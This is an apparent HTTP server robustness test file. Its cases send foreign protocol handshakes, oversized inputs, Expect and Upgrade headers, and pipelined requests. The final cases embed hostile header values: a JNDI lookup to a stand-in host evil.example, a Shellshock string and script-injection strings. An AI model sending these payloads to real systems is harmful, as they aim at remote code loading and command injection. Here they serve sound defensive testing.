"""Other protocols and other ways to speak this one, on the plain port."""

OTHER = "400, closed or 505, closed or closed"

case(OTHER, "HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00")
case(OTHER, "a TLS client hello", bytes.fromhex("16030100c8010000c40303") + bytes(range(32)) + b"\x00\x00\x02\x13\x01\x01\x00" + bytes(140))
case(OTHER, "an SSL 2 client hello", bytes.fromhex("802e0100020015000000100100800200800300800400800500800600400700c0") + bytes(16))
case(OTHER, "SSH", b"SSH-2.0-OpenSSH_9.0\r\n\r\n")
case(OTHER, "SMTP", b"EHLO evil.example\r\n\r\n")
case(OTHER, "Redis", b"*1\r\n$4\r\nINFO\r\n\r\n")
case(OTHER, "a proxy's PROXY line", b"PROXY TCP4 127.0.0.1 127.0.0.1 1 2\r\nGET /healthz HTTP/1.1\r\nHost: <host>\r\n\r\n")
case(OTHER, "a proxy's PROXY line, version 2", bytes.fromhex("0d0a0d0a000d0a515549540a2111000c7f0000017f00000100010002") + b"GET /healthz HTTP/1.1\r\nHost: <host>\r\n\r\n")
case(OTHER, "SOCKS 5", b"\x05\x01\x00\r\n\r\n")
case(OTHER, "an answer instead of a request", b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
case(OTHER, "a WebSocket frame", b"\x81\x85\x00\x00\x00\x00hello\r\n\r\n")
case(OTHER, "a thousand NULs", b"\0" * 1000)
case(OTHER, "all bytes", bytes(range(256)) + b"\r\n\r\n")
case("400, closed or 431, closed or closed", "100 KiB without a line break", b"A" * 102_400)
case("400, closed or 431, closed or closed", "100 KiB of spaces", b" " * 102_400)
case("closed within 16 s or 400, closed within 16 s or 431, closed within 16 s or 408, closed within 16 s", "100 KiB of line breaks", b"\r\n" * 51_200)
case("400, closed or 431, closed or closed", "100 KiB of line feeds", b"GET /healthz HTTP/1.1" + b"\n" * 102_400)

# Asking before sending.
expect = "POST /v1/runs HTTP/1.1\r\nHost: <host>\r\nAuthorization: Bearer {}\r\nExpect: {}\r\nContent-Length: {}\r\n\r\n"
case("100, 400 invalid-contract", "Expect: 100-continue", expect.format("<token>", "100-continue", 2), Pause(0.3), "{}")
case("100, 400 invalid-contract", "Expect: 100-Continue", expect.format("<token>", "100-Continue", 2), Pause(0.3), "{}")
case("413 too-large, closed", "Expect: 100-continue, too large: not asked to go on", expect.format("<token>", "100-continue", 10_000_000))
case("401 unauthorized, closed", "Expect: 100-continue, no token: not asked to go on", expect.format("x", "100-continue", 2))
case("417, closed or 417 or 400 invalid-contract or 400 invalid-request, closed", "Expect: something else", expect.format("<token>", "200-maybe", 2), "{}")
case("200 or 417", "Expect on a GET", Request("GET", "/healthz", "Expect: 100-continue"))
case("400 invalid-contract or 100, 400 invalid-contract", "Expect with HTTP/1.0", Request("POST", "/v1/runs", "Expect: 100-continue", body="{}", version="1.0"))

# Switching: never done, and the connection goes on as HTTP.
for value in ["websocket", "h2c", "TLS/1.0", "HTTP/2.0", "foo", "h2c, websocket"]:
    case("200, 200", f"Upgrade: {value}", Request("GET", "/healthz", f"Upgrade: {value}", "Connection: Upgrade, HTTP2-Settings", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"), Request("GET", "/healthz"))
case("200, 400, closed or 200, 505, closed or 200, closed", "Upgrade: h2c, and HTTP/2 behind it", Request("GET", "/healthz", "Upgrade: h2c", "Connection: Upgrade"), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
case("200", "Connection names Authorization", Request("GET", "/v1/nodes?limit=1", "Connection: authorization, host"))
case("200, closed", "Connection: close", Request("GET", "/healthz", "Connection: close"), Request("DELETE", "/v1/nodes/<victim>"))
case("200, closed", "Connection: close, then keep-alive", Request("GET", "/healthz", "Connection: close", "Connection: keep-alive"), Request("DELETE", "/v1/nodes/<victim>"))
case("200, closed", "HTTP/1.0", Request("GET", "/healthz", version="1.0"), Request("DELETE", "/v1/nodes/<victim>"))
case("200, 200", "HTTP/1.0 that stays", Request("GET", "/healthz", "Connection: keep-alive", version="1.0"), Request("GET", "/healthz"))
case("200", "a line break before it", b"\r\n", Request("GET", "/healthz"))
case("200, 200, 200, 200", "four at once", *[Request("GET", "/healthz")] * 4)
case("200, 404 not-found, 200", "good and bad at once", Request("GET", "/healthz"), Request("GET", "/nothing"), Request("GET", "/healthz"))
case("405", "HEAD: no body behind it", Request("HEAD", "/v1/nodes"))
case("200", "a cookie, a referer, an agent with a script in it", Request("GET", "/healthz", "Cookie: a=<script>", "Referer: javascript:alert(1)", "User-Agent: ${jndi:ldap://evil.example/a} () { :;}; echo x"))
case("200", "bytes beyond ASCII in a header", b"GET /healthz HTTP/1.1\r\nHost: <host>\r\nX-A: \xff\xfe\x80\r\n\r\n")
